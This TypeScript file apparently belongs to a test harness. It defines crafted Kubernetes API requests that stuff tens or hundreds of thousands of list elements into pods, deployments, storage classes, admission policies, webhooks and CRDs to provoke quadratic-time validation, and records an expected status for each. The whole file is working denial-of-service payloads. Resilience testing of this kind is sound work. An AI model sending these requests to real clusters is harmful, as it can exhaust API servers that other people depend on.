import { type Attack, type AttackRequest, patch, post, range } from './attack.ts';

/** Long lists in objects of many kinds: a rule that compares each element with all others takes quadratic time. */

const metadata = { name: 'a' };
const container = { name: 'c', image: 'i' };
const account = post('/api/v1/namespaces/default/serviceaccounts', { metadata: { name: 'default' } });
const selector = { matchLabels: { a: 'b' } };
const deployment = (spec: object, own: object = {}): AttackRequest =>
  post('/apis/apps/v1/namespaces/default/deployments', {
    metadata,
    spec: { selector, ...own, template: { metadata: { labels: { a: 'b' } }, spec: { containers: [container], ...spec } } },
  });
const inList = (name: string, status: number, request: () => AttackRequest, ...setup: readonly AttackRequest[]): Attack => ({
  name: `long list: ${name}`,
  setup: () => setup,
  request,
  status,
});

const admission = '/apis/admissionregistration.k8s.io/v1';
const policies = `${admission}/validatingadmissionpolicies`;
const rule = { apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] };
const policy = (rules: object, more: object): AttackRequest =>
  post(policies, { metadata, spec: { matchConstraints: { resourceRules: [{ ...rule, ...rules }] }, ...more } });
const webhook = (more: object): AttackRequest =>
  post(`${admission}/validatingwebhookconfigurations`, {
    metadata,
    webhooks: [{ name: 'a.b.c', clientConfig: { url: 'https://a' }, sideEffects: 'None', ...more }],
  });
const storageClass = (allowedTopologies: unknown): AttackRequest =>
  post('/apis/storage.k8s.io/v1/storageclasses', { metadata, provisioner: 'a/b', allowedTopologies });
const strategic = 'application/strategic-merge-patch+json';
const merge = 'application/merge-patch+json';

const podConditions = range(5_000, (at) => ({ type: `t${at}`, status: 'True' }));

export const listAttacks: readonly Attack[] = [
  inList('tolerations of a runtime class', 201, () =>
    post('/apis/node.k8s.io/v1/runtimeclasses', {
      metadata,
      handler: 'h',
      scheduling: { tolerations: range(20_000, (at) => ({ key: `k${at}`, operator: 'Exists' })) },
    }),
  ),
  inList('values of a topology', 201, () =>
    storageClass([{ matchLabelExpressions: [{ key: 'k', values: range(40_000, (at) => `v${at}`) }] }]),
  ),
  inList('topologies', 201, () => storageClass(range(15_000, (at) => ({ matchLabelExpressions: [{ key: 'k', values: [`v${at}`] }] })))),
  inList('empty topologies', 422, () => storageClass(range(500_000, () => ({})))),
  inList('audit annotations', 422, () =>
    policy({}, { auditAnnotations: range(20_000, (at) => ({ key: `k${at}`, valueExpression: '"a"' })) }),
  ),
  inList('resource names of a rule', 201, () =>
    policy({ resourceNames: range(40_000, (at) => `n${at}`) }, { validations: [{ expression: 'true' }] }),
  ),
  inList('review versions of a webhook', 201, () => webhook({ admissionReviewVersions: range(40_000, (at) => `v${at}`) })),
  inList('address families', 422, () =>
    post('/api/v1/namespaces/default/services', { metadata, spec: { ports: [{ port: 1 }], ipFamilies: range(40_000, (at) => `f${at}`) } }),
  ),
  inList('usages of a certificate', 422, () =>
    post('/apis/certificates.k8s.io/v1/certificatesigningrequests', {
      metadata,
      spec: { signerName: 'a.b/c', request: 'YQ==', usages: range(40_000, (at) => `u${at}`) },
    }),
  ),
  inList('resource claims of a container', 422, () =>
    deployment({ containers: [{ ...container, resources: { claims: range(20_000, (at) => ({ name: `n${at}` })) } }] }),
  ),
  inList('resource claims of a pod that containers do not use', 422, () =>
    deployment({
      resourceClaims: range(10_000, (at) => ({ name: `n${at}`, resourceClaimName: 'c' })),
      containers: range(5_000, (at) => ({ name: `c${at}`, image: 'i', resources: { claims: [{ name: 'x' }] } })),
    }),
  ),
  inList('volumes', 201, () => deployment({ volumes: range(20_000, (at) => ({ name: `v${at}`, secret: { secretName: `s${at}` } })) })),
  inList('equal paths in a volume', 201, () =>
    deployment({
      volumes: [{ name: 'v', downwardAPI: { items: range(20_000, () => ({ path: 'a', fieldRef: { fieldPath: 'metadata.name' } })) } }],
    }),
  ),
  inList('empty sources of a volume', 201, () =>
    deployment({ volumes: [{ name: 'v', projected: { sources: range(500_000, () => ({})) } }] }),
  ),
  inList('empty selector requirements', 422, () => deployment({}, { selector: { matchExpressions: range(60_000, () => ({})) } })),
  inList('empty containers', 422, () => deployment({ containers: range(20_000, () => ({})) })),
  inList(
    'tolerations of an updated pod',
    200,
    () => patch('/api/v1/namespaces/default/pods/a', merge, { metadata: { labels: { a: 'b' } } }),
    account,
    post('/api/v1/namespaces/default/pods', {
      metadata,
      spec: { containers: [container], tolerations: range(8_000, (at) => ({ key: `k${at}`, operator: 'Exists' })) },
    }),
  ),
  inList(
    'containers of an updated pod',
    200,
    () => patch('/api/v1/namespaces/default/pods/a', merge, { metadata: { labels: { a: 'b' } } }),
    account,
    post('/api/v1/namespaces/default/pods', { metadata, spec: { containers: range(2_500, (at) => ({ name: `c${at}`, image: 'i' })) } }),
  ),
  inList(
    'addresses of a node',
    200,
    () =>
      patch('/api/v1/nodes/a/status', merge, {
        status: { addresses: range(20_000, (at) => ({ type: 'Hostname', address: `h${at}` })) },
      }),
    post('/api/v1/nodes', { metadata }),
  ),
  inList(
    'conditions of a pod, reversed',
    200,
    () => patch('/api/v1/namespaces/default/pods/a/status', merge, { status: { conditions: [...podConditions].reverse() } }),
    account,
    post('/api/v1/namespaces/default/pods', { metadata, spec: { containers: [container] } }),
    patch('/api/v1/namespaces/default/pods/a/status', merge, { status: { conditions: podConditions } }),
  ),
  inList('errors in rules and columns of a definition', 422, () =>
    post('/apis/apiextensions.k8s.io/v1/customresourcedefinitions', {
      metadata: { name: 'ws.example.com' },
      spec: {
        group: 'example.com',
        scope: 'Cluster',
        names: { plural: 'ws', kind: 'WS' },
        versions: [
          {
            name: 'v1',
            served: true,
            storage: true,
            schema: { openAPIV3Schema: { type: 'object', 'x-kubernetes-validations': range(5_000, () => ({ rule: 'x' })) } },
            additionalPrinterColumns: range(10_000, () => ({ name: 'a', type: 'x', jsonPath: '.a' })),
          },
        ],
      },
    }),
  ),
  inList(
    'container statuses',
    200,
    () =>
      patch('/api/v1/namespaces/default/pods/a/status', strategic, {
        status: {
          containerStatuses: range(2_500, (at) => ({ name: `c${at}`, allocatedResourcesStatus: [{ name: 'claim:x', resources: [] }] })),
        },
      }),
    account,
    post('/api/v1/namespaces/default/pods', {
      metadata,
      spec: {
        resourceClaims: [{ name: 'x', resourceClaimName: 'c' }],
        containers: range(2_500, (at) => ({ name: `c${at}`, image: 'i', resources: { claims: [{ name: 'x' }] } })),
      },
    }),
  ),
  inList('volumes of {}', 422, () => deployment({ volumes: range(120_000, () => ({})) })),
  inList('volumes of null', 422, () => deployment({ volumes: range(120_000, () => null) })),
  inList('more volumes than an object can have', 500, () => deployment({ volumes: range(900_000, () => ({})) })),
  inList('expressions of {}', 422, () => deployment({}, { selector: { matchExpressions: range(57_000, () => ({})) } })),
  inList('more expressions than an object can have', 500, () =>
    deployment({}, { selector: { matchExpressions: range(900_000, () => ({})) } }),
  ),
  inList('empty values of an expression', 422, () =>
    deployment({}, { selector: { matchExpressions: [{ key: 'k', operator: 'Exists', values: range(500_000, () => '') }] } }),
  ),
];
